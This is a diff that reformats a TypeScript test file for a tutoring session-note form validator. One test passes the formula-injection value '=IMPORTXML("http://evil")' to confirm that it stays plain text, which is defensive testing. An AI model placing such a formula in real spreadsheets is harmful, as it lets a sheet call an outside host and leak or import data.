@@ -11,16 +11,27 @@ const aNote = (overrides: Partial<SessionNoteForm> = {}): SessionNoteForm => ({
 describe('session-note-form', () => {
   describe('checkSessionNote', () => {
     it('accepts a complete note with two check-offs', () => {
-      const checked = checkSessionNote(aNote({ checkOffs: [{ stepId: 'S1', done: true }, { stepId: 'S2', done: false }], followThrough: 'Partly', followThroughWhy: 'Missed Wednesday' }));
+      const checked = checkSessionNote(
+        aNote({
+          checkOffs: [
+            { stepId: 'S1', done: true },
+            { stepId: 'S2', done: false },
+          ],
+          followThrough: 'Partly',
+          followThroughWhy: 'Missed Wednesday',
+        }),
+      );
       expect(checked.ok).toBe(true);
     });
 
     it('keeps user text that starts like a formula as plain text (the sheet writer quotes it)', () => {
-      const checked = checkSessionNote(aNote({ objective: '=IMPORTXML("http://evil")', studentShared: '+1 on the quiz', questionsForTeacher: '@Ms Rivera?' }));
+      const checked = checkSessionNote(
+        aNote({ objective: '=IMPORTXML("http://evil")', studentShared: '+1 on the quiz', questionsForTeacher: '@Ms Rivera?' }),
+      );
       expect(checked.ok && checked.value.objective).toBe('=IMPORTXML("http://evil")');
     });
 
-    it('puts each bad field\'s message beside that field and nothing else', () => {
+    it("puts each bad field's message beside that field and nothing else", () => {
       const checked = checkSessionNote(aNote({ date: '2026-02-30', objective: '  ', endTime: '15:00', degreeAccomplished: 7 }));
       expect(checked.ok).toBe(false);
       if (checked.ok) return;
@@ -51,7 +62,14 @@ describe('session-note-form', () => {
     });
 
     it('rejects the same step checked off twice, and a choice outside the list', () => {
-      const twice = checkSessionNote(aNote({ checkOffs: [{ stepId: 'S1', done: true }, { stepId: 'S1', done: false }] }));
+      const twice = checkSessionNote(
+        aNote({
+          checkOffs: [
+            { stepId: 'S1', done: true },
+            { stepId: 'S1', done: false },
+          ],
+        }),
+      );
       expect(twice.ok || twice.errors.checkOffs).toMatch(/once per note/);
       const odd = checkSessionNote({ ...aNote(), focusMotivation: 'Sky-high' });
       expect(odd.ok || odd.errors.focusMotivation).toBe('Choose High, Medium or Low.');
@@ -70,9 +88,16 @@ describe('session-note-form', () => {
       const checked = checkSessionNote(aNote({ checkOffs: [{ stepId: 'S1', done: true }] }));
       if (!checked.ok) throw new Error('invalid');
       const rows = sessionNoteRows(checked.value, 'N-1', 'tutor.ana@school.example');
-      expect(rows.note).toMatchObject({ noteId: 'N-1', tutorEmail: 'tutor.ana@school.example', studentId: '00101', objective: 'Solve two-step equations' });
+      expect(rows.note).toMatchObject({
+        noteId: 'N-1',
+        tutorEmail: 'tutor.ana@school.example',
+        studentId: '00101',
+        objective: 'Solve two-step equations',
+      });
       expect(rows.note).not.toHaveProperty('checkOffs');
-      expect(rows.checkOffs).toEqual([{ date: '2026-10-05', stepId: 'S1', studentId: '00101', tutorEmail: 'tutor.ana@school.example', done: true, noteId: 'N-1' }]);
+      expect(rows.checkOffs).toEqual([
+        { date: '2026-10-05', stepId: 'S1', studentId: '00101', tutorEmail: 'tutor.ana@school.example', done: true, noteId: 'N-1' },
+      ]);
     });
   });
 });
